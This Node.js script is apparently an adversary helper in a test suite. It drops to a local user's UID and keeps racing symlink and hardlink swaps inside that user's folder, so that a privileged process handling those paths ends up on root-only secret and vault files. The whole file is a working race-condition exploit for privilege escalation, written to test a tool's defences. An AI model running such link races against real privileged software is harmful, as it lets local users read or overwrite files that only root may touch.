// `node attacker.js UID FOLDER SECRET VAULT`: a local user who swaps what is in a folder of theirs, as fast as can be, for
// links to what only root may touch. Each line of its stdin is a strategy, or `rest`; it is said again once it holds.
import * as fs from 'node:fs'
import { join } from 'node:path'
import { createInterface } from 'node:readline'

const [, , uid, folder, secret, vault] = process.argv
process.setgid(Number(uid))
process.setuid(Number(uid))

const quietly = (work) => {
  try {
    return work()
  } catch {
    return undefined
  }
}
const any = (list) => list[Math.floor(Math.random() * list.length)]
let stolen = 0

/** Takes a name for a link to what is root's; what had the name is kept out of the way, or thrown away. */
function swap(path) {
  const to = any([secret, vault, join(vault, 'new'), join(vault, 'sub')])
  const away = join(folder, `stolen${stolen++ % 8}`)
  quietly(() => fs.renameSync(path, away))
  quietly(() => fs.rmSync(path, { recursive: true, force: true }))
  const how = Math.random()
  if (how < 0.8) quietly(() => fs.symlinkSync(to, path))
  else if (how < 0.9) quietly(() => fs.mkdirSync(path))
  else quietly(() => fs.linkSync(secret, path))
  if (Math.random() < 0.3) {
    quietly(() => fs.unlinkSync(path))
    quietly(() => fs.renameSync(away, path))
  }
}

const STRATEGIES = {
  /** Whatever appears in the folder. */
  appearing() {
    for (const name of quietly(() => fs.readdirSync(folder)) ?? []) {
      if (/^(stolen|kept|tree|sub)/.test(name)) continue
      swap(join(folder, name))
    }
  },
  /** A folder that work is staged in: another one of its name, whose parts are links to what is root's. */
  stage() {
    for (const name of quietly(() => fs.readdirSync(folder)) ?? []) {
      if (!name.startsWith('.playssh.')) continue
      const path = join(folder, name)
      const away = join(folder, `stolen${stolen++ % 8}`)
      quietly(() => fs.renameSync(path, away))
      quietly(() => fs.mkdirSync(path))
      for (let round = 0; round < 50; round += 1)
        quietly(() => fs.symlinkSync(vault, join(path, `target${round}`)))
      quietly(() => fs.rmSync(path, { recursive: true, force: true }))
      quietly(() => fs.renameSync(away, path))
    }
  },
  /** The target itself, all the time: a file of one's own, then a link. */
  target() {
    const path = join(folder, 'target')
    quietly(() => fs.symlinkSync(any([secret, vault, join(vault, 'new')]), `${path}.link`))
    quietly(() => fs.renameSync(`${path}.link`, path))
    quietly(() => fs.unlinkSync(path))
    quietly(() => fs.writeFileSync(path, 'mine\n', { flag: 'wx' }))
  },
  /** The folder that the target lies in: a folder, then a link to one of root's. */
  parent() {
    const path = join(folder, 'sub')
    quietly(() => fs.renameSync(path, join(folder, 'sub.away')))
    quietly(() => fs.symlinkSync(vault, path))
    quietly(() => fs.unlinkSync(path))
    quietly(() => fs.renameSync(join(folder, 'sub.away'), path))
  },
  /** Folders and files of a tree that is worked through. */
  tree() {
    for (const name of ['a', 'b', 'c']) {
      const path = join(folder, 'tree', name)
      quietly(() => fs.renameSync(path, `${path}.away`))
      quietly(() => fs.symlinkSync(vault, path))
      quietly(() => fs.unlinkSync(path))
      quietly(() => fs.renameSync(`${path}.away`, path))
      const file = join(path, 'file')
      quietly(() => fs.renameSync(file, `${file}.away`))
      quietly(() => fs.symlinkSync(secret, file))
      quietly(() => fs.unlinkSync(file))
      quietly(() => fs.renameSync(`${file}.away`, file))
    }
  },
}

let strategy = 'rest'
let isAwake = false

const turn = () => {
  isAwake = strategy !== 'rest'
  if (!isAwake) return
  const end = performance.now() + 20
  while (performance.now() < end) STRATEGIES[strategy]()
  setImmediate(turn)
}

createInterface({ input: process.stdin })
  .on('line', (line) => {
    strategy = line
    if (!isAwake) turn()
    console.log(line)
  })
  .on('close', () => process.exit(0))
